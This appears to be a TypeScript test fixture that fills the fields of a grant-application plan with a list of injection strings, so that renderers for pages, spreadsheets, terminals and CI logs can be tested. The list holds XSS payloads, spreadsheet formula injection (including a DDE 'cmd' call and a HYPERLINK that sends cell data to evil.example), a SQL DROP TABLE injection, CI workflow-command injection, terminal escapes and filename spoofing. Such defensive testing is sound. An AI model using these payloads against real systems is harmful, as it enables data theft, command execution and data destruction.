// A plan in which every text is an attempt on whoever reads the output: pages, spreadsheets, terminals, code hosts, databases.

import { prototypeNames } from "./junk.ts";

/** Texts that are code for some reader, or end what they stand in. */
export const attacks: readonly string[] = [
  "<script>window.isHurt = true</script>",
  '"><img src=x onerror="window.isHurt = true">',
  "' autofocus onfocus='window.isHurt = true",
  "</title></style></textarea></script><svg onload=alert(1)>",
  "<!--",
  "]]></v></c><f>1+1</f>",
  "javascript:alert(1)",
  '=HYPERLINK("https://evil.example/?"&A1;"Click")',
  "=1+1",
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "a;=1+1",
  "a\n=1+1",
  "＝1+1",
  "a\n::error file=x::hurt",
  "::set-output name=hurt::yes",
  "%0A::error::hurt",
  "[a link](https://evil.example/)",
  "{0}",
  "');\nDROP TABLE plans; --",
  "\u001b[31mred\u001b]8;;https://evil.example/\u0007",
  "\u202egnp.exe\u2066",
  "x\r\nEND:VEVENT\r\nBEGIN:VEVENT",
  ["$", "{7*7}{{7*7}}"].join(""),
  "half \ud800 letter",
  "\u0000",
  ...prototypeNames,
];

/** Every attack as a partner, a work package, a category and a note. */
export const hostilePlan = {
  title: attacks.join(" "),
  action: "KA220-HED",
  call: 2026,
  months: 24,
  grant: 250_000,
  start: attacks[0],
  partners: attacks.map((text, index) => ({
    name: text,
    country: index % 3 === 0 ? text : "SE",
    type: index % 4 === 0 ? text : "hei",
    role: index === 0 ? "coordinator" : index % 5 === 1 ? text : "partner",
    id: text,
    eche: index % 2 === 0 ? text : true,
    established: text,
    contact: text,
  })),
  workPackages: attacks.map((text, index) => ({ id: index === 0 ? "WP1" : text, title: text, lead: text })),
  lines: attacks.map((text, index) => ({
    partner: index % 2 === 0 ? text : `${text} else`,
    workPackage: text,
    category: text,
    year: index % 3 === 0 ? text : 1,
    amount: index % 7 === 0 ? text : 1000 + index,
    note: text,
  })),
};

const named = attacks.slice(0, 20);

/** The same texts as names alone, in a plan that a form can be filled in with. */
export const hostileNames = {
  title: attacks.join(" "),
  action: "KA220-HED",
  call: 2026,
  months: 24,
  grant: 250_000,
  partners: named.map((name, index) => ({ name, country: "SE", role: index === 0 ? "coordinator" : "partner" })),
  workPackages: named.map((title, index) => ({ id: `WP${index + 1}`, title })),
  lines: named.map((partner, index) => ({ partner, workPackage: `WP${index + 1}`, category: "staff", amount: 1000 })),
};
